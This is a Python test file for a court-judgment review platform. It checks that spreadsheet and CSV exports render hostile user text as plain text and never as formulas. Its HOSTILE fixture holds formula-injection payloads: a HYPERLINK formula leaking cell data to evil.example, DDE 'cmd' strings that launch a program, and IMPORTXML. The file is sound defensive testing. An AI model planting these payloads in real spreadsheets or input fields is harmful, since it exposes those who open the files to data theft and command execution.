"""Exports are data, never formulas: hostile text from users comes out as text in every export.

Every `*_workbook(period)` function of `reviewer.exports.workbooks` is opened; no cell may be a
formula (the platform writes none), and every hostile text appears exactly as typed.
"""
from __future__ import annotations

import io
import inspect

import pytest
from openpyxl import load_workbook

from reviewer.exports import workbooks
from reviewer.exports.cells import FORMULA_STARTS, csv_text, looks_like_formula
from tests.evaluation_factories import evaluate, make_reviewer, make_sheet
from tests.factories import make_court, make_judgment, make_user

HOSTILE = {
    "case": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "cause": "+cmd|' /C calc'!A0",
    "judge": "-2+3+cmd|' /C calc'!A0",
    "reviewer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "\t=1+1",
    "court": "\r=2+2",
    "section": "=1+2",
    "item": "=IMPORTXML(A1)",
}
EXPORTS = sorted(name for name, fn in inspect.getmembers(workbooks, inspect.isfunction)
                 if name.endswith("_workbook") and fn.__module__ == workbooks.__name__)


def _hostile_data():
    court = make_court("豫0802", name=HOSTILE["court"])
    judge = make_user(court=court, display_name=HOSTILE["judge"])
    reviewer = make_reviewer()
    reviewer.display_name = HOSTILE["reviewer"]
    sheet = make_sheet()
    sheet.sections[0].title = HOSTILE["section"]
    sheet.sections[0].items[0].description = HOSTILE["item"]
    judgment = make_judgment(court=court, month="2021-03", case_number=HOSTILE["case"], judge=judge,
                             cause=HOSTILE["cause"])
    evaluate(judgment, 80, "合格", reviewers=[reviewer], deductions=[20], reason=HOSTILE["reason"])


def test_every_export_function_is_checked():
    assert EXPORTS == ["reviews_workbook", "statistics_workbook"]


@pytest.mark.parametrize("export", EXPORTS)
def test_export_cells_are_never_formulas_and_keep_the_text(app, db, export):
    _hostile_data()
    stream = getattr(workbooks, export)("2021")
    book = load_workbook(io.BytesIO(stream.read()))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if looks_like_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                texts.add(cell.value)
    expected = {"reviews_workbook": set(HOSTILE.values()),
                "statistics_workbook": {HOSTILE["court"], HOSTILE["reviewer"]}}[export]
    assert expected <= texts


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_text_neutralises_every_formula_start(start):
    assert csv_text(start + "1+1") == "'" + start + "1+1"
    assert csv_text("（2021）豫0802民初1号") == "（2021）豫0802民初1号"
    assert csv_text(12) == 12
